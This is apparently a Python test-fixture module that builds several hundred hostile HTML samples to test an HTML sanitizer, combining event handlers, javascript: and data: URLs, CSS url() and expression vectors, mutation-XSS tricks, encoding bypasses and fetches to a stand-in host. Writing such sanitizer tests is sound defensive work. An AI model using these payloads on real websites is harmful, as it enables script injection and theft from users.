"""Hostile HTML: a few hundred ways to run a script or to reach out, written for the test of the cleaner.

Every sample tries to call `hit(n)` or to fetch something from HOST.
"""

from collections.abc import Iterator

HOST = "http://reached.out.test"

_RUN = "hit(1)"
_HANDLERS = (
    "onload onerror onclick onmouseover onfocus onblur onanimationstart onanimationend ontransitionend onpageshow "
    "ontoggle onbegin onend onscroll onwheel oncut onpaste onbeforeprint onresize onpointerenter onpointerover "
    "onsearch onselectstart oncanplay onloadstart onloadeddata onmessage onhashchange oncontentvisibilityautostatechange "
    "onscrollend onsecuritypolicyviolation onslotchange onunhandledrejection onpopstate"
)
_TAGS = "img body svg video audio details input select textarea iframe object embed marquee div p a table td form button math style link meta x-y"
_WRAPPERS = (
    "{}", "<table><tr><td>{}", "<math><mtext>{}", "<svg><foreignObject>{}</foreignObject></svg>", "<noscript>{}</noscript>",
    "<template>{}</template>", "<textarea>{}</textarea>", "<select><option>{}", "<style>{}</style>", "<title>{}</title>",
    "<!--{}-->", "<![CDATA[{}]]>", "<svg><style>{}</style></svg>", "<math><annotation-xml encoding=text/html>{}", "<xmp>{}</xmp>", "<plaintext>{}",
    "<noembed>{}</noembed>", "<noframes>{}</noframes>", "<a title='{}'>x</a>", '<p lang="{}">x', "<svg><desc>{}", "<svg><title>{}", "<!--><{}", "<!-- --!>{}<!--",
)  # fmt: skip
_PAYLOADS = (
    f"<script>{_RUN}</script>", f"<img src=x onerror={_RUN}>", f"<svg onload={_RUN}>", f'"><img src=x onerror={_RUN}>', f"'><svg/onload={_RUN}>",
    f"</textarea></title></style></noscript></xmp></template><img src=x onerror={_RUN}>", f"<img src={HOST}/i.png>", f"--><img src=x onerror={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "java\rscript:{}", "\x01javascript:{}", " javascript:{}", "javascript&colon;{}",
    "&#106;avascript:{}", "&#x6A;avascript:{}", "&#0000106avascript:{}", "java&Tab;script:{}", "java&NewLine;script:{}", "vbscript:{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>", "feed:javascript:{}", "view-source:javascript:{}",
    "javascript://%0a{}", "//reached.out.test/{}", "https://reached.out.test/{}", "\\\\reached.out.test\\{}", "/\\reached.out.test/{}", "http:reached.out.test", "blob:{}", "filesystem:{}", "about:blank#{}", "ftp://reached.out.test/",
)  # fmt: skip
_PLACES = (
    '<a href="{}">x</a>', '<img src="{}">', '<iframe src="{}"></iframe>', '<form action="{}"><input type=submit></form>', '<button formaction="{}">x</button>', '<object data="{}"></object>',
    '<embed src="{}">', '<base href="{}"><a href=x>y</a>', '<meta http-equiv=refresh content="0;url={}">', '<link rel=stylesheet href="{}">', '<img srcset="{} 1x">', '<video src="{}" autoplay></video>', '<video poster="{}">',
    '<audio src="{}" autoplay>', '<source src="{}">', '<input type=image src="{}">', '<body background="{}">', '<table background="{}">', '<td background="{}">x', '<svg><a xlink:href="{}"><text y=9>x', '<svg><image href="{}"/></svg>',
    '<svg><use href="{}"/></svg>', '<math href="{}">x</math>', '<a ping="{}" href="#">x</a>', '<img lowsrc="{}" dynsrc="{}">', '<blockquote cite="{}">x', '<track src="{}">', '<script src="{}"></script>', '<frameset><frame src="{}">', '<picture><source srcset="{}"><img></picture>',
    '<p style="background:url({})">x', '<p style="background-image:url(\'{}\')">x', '<p style="list-style:url({});display:list-item">x', '<p style="content:url({})">x', '<p style="cursor:url({}),auto">x',
    '<p style="color:red;back\\67round:url({})">x', '<p style="background:image-set(\'{}\' 1x)">x', '<style>@import "{}";</style>', "<style>p{{background:url({})}}</style><p>x", '<link rel=prefetch href="{}">', '<link rel=dns-prefetch href="{}">',
    '<p style="width:expression({})">x', '<p style="-moz-binding:url({})">x', '<p style="behavior:url({})">x', '<p style="border-image:url({}) 1">x', '<p style="mask:url({})">x', '<p style="filter:url({})">x', '<p style="--x:url({});background:var(--x)">x',
)  # fmt: skip
_MUTATIONS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=hit(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=hit(1)>">',
    '<math><mi//xlink:href="data:x,<script>hit(1)</script>">',
    "<svg><![CDATA[><img src=x onerror=hit(1)>]]></svg>",
    '<listing>&lt;img onerror="hit(1)" src=1&gt;</listing>',
    '<p id="</p><img src=x onerror=hit(1)>">', '<a title="<!--"><img title="--><img src=x onerror=hit(1)>">',
    '<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror=hit(1)></style>',
    "<svg><script>hit(1)</script></svg>", "<svg><animate onbegin=hit(1) attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to=hit(1)>",
    "<svg><a><animate attributeName=href values=javascript:hit(1) /><text x=20 y=20>x</text></a>", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>hit(1)</script></svg>#x\">",
    "<scr<script>ipt>hit(1)</scr</script>ipt>", "<<script>hit(1)//<</script>", "<script\x00>hit(1)</script>", "<script/x>hit(1)</script>", "<scr\x00ipt>hit(1)</script>", "<img src=x onerror\x0b=hit(1)>", "<img/src='x'/onerror=hit(1)>",
    '<img """><script>hit(1)</script>">', "<img src=`x`onerror=hit(1)>", "<img src=x:x onerror\n=\nhit(1)>", "<IMG SRC=x OnErRoR=hit(1)>", "<img src=x one&#114;ror=hit(1)>", "<a href=x style=animation-name:x onanimationstart=hit(1)>", "<x/onclick=hit(1)>click",
    "<table><tr><td></table><img src=x onerror=hit(1)>", "<table><a href='javascript:hit(1)'>x", "<select><template><img src=x onerror=hit(1)></template></select>", "<div><template shadowrootmode=open><img src=x onerror=hit(1)></template></div>",
    '<iframe src="javascript:parent.hit(1)">', "<object data='data:text/html,<script>parent.hit(1)</script>'>", "<embed src='data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iaGl0KDEpIi8+'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iaGl0KDEpIi8+'>", "<meta charset=utf-7>+ADw-script+AD4-hit(1)+ADw-/script+AD4-", "<input autofocus onfocus=hit(1)>", "<details open ontoggle=hit(1)>x", "<marquee onstart=hit(1)>",
    "<video><source onerror=hit(1)></video>", "<audio src=x onerror=hit(1)>", "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=hit(1)>", "<p onpointerover=hit(1) style=position:fixed;inset:0>x", "<form id=document><input name=cookie></form>",
    "<a id=hit></a><a id=hit name=x href=javascript:hit(1)>", "<base target=_top href=javascript:hit(1)//>", "<isindex action=javascript:hit(1) type=submit>", "<a href='javascript:hit(1)' target=_self>x</a>", "\ufeff<script>hit(1)</script>", "&lt;script&gt;hit(1)&lt;/script&gt;<script>hit(1)</script>",
    "<img src=1 alt='&lt;/p&gt;&lt;script&gt;hit(1)&lt;/script&gt;'>", "<p title='&quot; onmouseover=hit(1) x=&quot;' >x", "<font color='\" onload=hit(1)'>x", "<td width='1\" onclick=\"hit(1)'>", '<a href="http://a/&quot; onclick=&quot;hit(1)">x', "<a href='mailto:x\" onclick=\"hit(1)'>x",
)  # fmt: skip


def samples() -> Iterator[str]:
    """Yield every sample."""
    yield from _MUTATIONS
    for wrapper in _WRAPPERS:
        for payload in _PAYLOADS:
            yield wrapper.replace("{}", payload)
    for place in _PLACES:
        for address in _ADDRESSES:
            yield place.replace("{{", "{").replace("}}", "}").replace("{}", address.replace("{}", _RUN))
        yield place.replace("{{", "{").replace("}}", "}").replace("{}", f"{HOST}/x")
    for tag in _TAGS.split():
        for handler in _HANDLERS.split():
            yield f"<{tag} src=x open autofocus tabindex=1 style=animation:x {handler}={_RUN}>x</{tag}>"
